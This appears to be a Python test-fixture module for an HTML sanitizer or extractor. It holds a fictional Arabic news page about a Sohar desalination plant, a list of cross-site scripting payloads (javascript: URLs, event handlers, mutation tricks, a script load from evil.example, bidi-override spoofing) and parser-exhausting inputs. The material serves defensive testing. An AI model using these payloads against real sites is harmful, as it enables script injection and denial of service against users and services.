"""HTML that tests share: a page, markup that attacks readers, and markup that attacks parsers."""

from __future__ import annotations

#: A page of an outlet that does not exist, with everything pages put around a story.
PAGE = """<!DOCTYPE html><html lang="ar" dir="rtl"><head>
<title>محطة تحلية جديدة تدخل الخدمة في صحار | صحيفة المرفأ</title>
<meta property="og:title" content="محطة تحلية جديدة تدخل الخدمة في صحار">
<meta property="article:modified_time" content="2026-03-01T12:30:00+04:00">
<meta property="article:published_time" content="2026-03-01T10:00:00+04:00">
<link rel="canonical" href="https://almarfa.example/news/12"><link rel="stylesheet" href="/a.css">
<script>window.dataLayer = ["<p>لا شيء</p>"]</script></head><body>
<header><img src="/logo.png" alt="شعار">
<h1>صحيفة المرفأ</h1><nav><ul><li><a href="/">الرئيسية</a></li>
<li><a href="/e">اقتصاد</a></li><li><a href="/s">رياضة</a></li></ul></nav></header>
<main><article><h1>محطة تحلية جديدة تدخل الخدمة في صحار</h1>
<div class="meta"><div>كتب: سالم الهنائي</div><time>1 مارس 2026</time></div>
<figure><img src="/i/1.jpg" alt="المحطة"><figcaption>منظر عام للمحطة
<span class="credit">(رويترز)</span></figcaption></figure>
<div class="share"><a href="#">شارك</a> <a href="#">تويتر</a></div>
<p>مسقط - المرفأ: دخلت محطة التحلية الجديدة في صحار الخدمة اليوم بطاقة إنتاجية تبلغ مئتي ألف متر
مكعب يوميا وفق ما أعلنته <a href="/c/7">الشركة المشغلة</a> في بيان.</p>
<p>وقالت الشركة إن المحطة ستغطي احتياجات ولايات شمال الباطنة من مياه الشرب خلال أشهر الصيف، وإن
كلفتها بلغت سبعين مليون ريال.</p>
<div class="related"><h4>اقرأ أيضا</h4><ul><li><a href="/n/1">توسعة ميناء صحار تنطلق الشهر
المقبل</a></li><li><a href="/n/2">ارتفاع صادرات الألمنيوم في الربع الأول</a></li></ul></div>
<h2>تشغيل تدريجي</h2>
<p>وأضافت أن التشغيل يجري على مراحل ثلاث تنتهي أولاها في نهاية الشهر الجاري، فيما تستكمل الأخيرة
قبل نهاية العام الحالي.</p>
<iframe src="https://video.example/embed/5"></iframe>
<p>وتعمل المحطة بتقنية التناضح العكسي التي <em>تخفض</em> استهلاك الكهرباء بنحو الثلث مقارنة
بالمحطات القديمة في المنطقة.</p></article></main>
<aside><img src="/t/9.jpg" alt="مباراة">
<h3>الأكثر قراءة</h3><a href="/n/9">فوز المنتخب على نظيره في مباراة ودية أقيمت مساء أمس على
ملعب السيب وحضرها جمهور كبير من المشجعين.</a></aside>
<footer><p>جميع الحقوق محفوظة لصحيفة المرفأ 2026</p></footer></body></html>"""

#: Ways to run a script, to load something, or to leave the place where copy is shown.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>نص</a>",
    "<a href='java\tscript:alert(1)'>نص</a>",
    "<a href='&#106;avascript:alert(1)'>نص</a>",
    "<a href=' \x01javascript:alert(1)'>نص</a>",
    "<a href='vbscript:x'>نص</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>نص</a>",
    '<a href="https://e.example/" onclick="alert(1)" style="position:fixed">نص</a>',
    '<a href="https://e.example/&quot; onmouseover=&quot;alert(1)">نص</a>',
    "<a href='https://e.example/\u202egpj.exe'>نص</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>نص</div>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<button formaction='javascript:alert(1)'>نص</button>",
    "<details open ontoggle=alert(1)>نص</details>",
    "<marquee onstart=alert(1)>نص</marquee>",
    "<p title='</p><script>alert(1)</script>'>نص</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<b/onmouseover=alert(1)>نص</b>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<bdo dir=rtl>نص</bdo><p>نص \u202eعكسه\u202c و\u2066عزله\u2069</p>",
    "<p>نص &#x202e;عكسه&#8238;</p>",
)

#: What keeps tree builders busy: nesting, tags that never match, open formatting, endless names.
HOSTILE = {
    "nested divs": "<div>" * 50_000,
    "nested lists": "<ul><li>" * 50_000,
    "nested tables": "<table><tr><td>" * 15_000,
    "nested quotes": "<blockquote>" * 15_000,
    "nested svg": "<svg>" * 15_000,
    "end tags that match nothing": "<b>" * 100_000 + "</i>" * 100_000,
    "the same, less deep": "<b>" * 500 + "</i>" * 100_000,
    "formatting that is never closed": "".join(f"<p><b a={n}></p>" for n in range(20_000)),
    "links around everything": "<a href=http://a.example>" * 400 + "<p>x" * 20_000,
    "open comments": "<!--" * 100_000,
    "open comments, deep": "<b>" * 600 + "<!--" * 100_000,
    "open scripts, deep": "<b>" * 600 + "<script>" * 50_000,
    "huge attribute": '<a title="' + "y" * 500_000 + '" href="http://a.example">',
    "huge address": '<a href="http://a.example/' + "y" * 500_000 + '">',
    "many attributes": "<a " + " ".join(f"a{n}=1" for n in range(40_000)) + ">",
    "quotes that never end": '<a "' * 100_000,
    "brackets": "<" * 100_000,
    "entities": "&amp;" * 50_000 + "&#x" + "9" * 100_000,
    "images": '<img src="http://a.example/1.jpg" alt="x">' * 10_000,
}
